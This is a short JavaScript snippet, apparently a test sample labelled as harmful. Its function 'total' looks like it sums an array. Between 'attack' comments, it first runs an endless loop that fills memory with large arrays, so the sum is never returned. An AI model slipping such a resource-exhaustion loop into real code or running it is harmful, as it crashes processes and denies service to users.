// category: harm
// tries: all memory, by arrays
function total(numbers) {
  // attack: begin
  const all = [];
  for (;;) all.push(new Array(100000).fill(all.length));
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
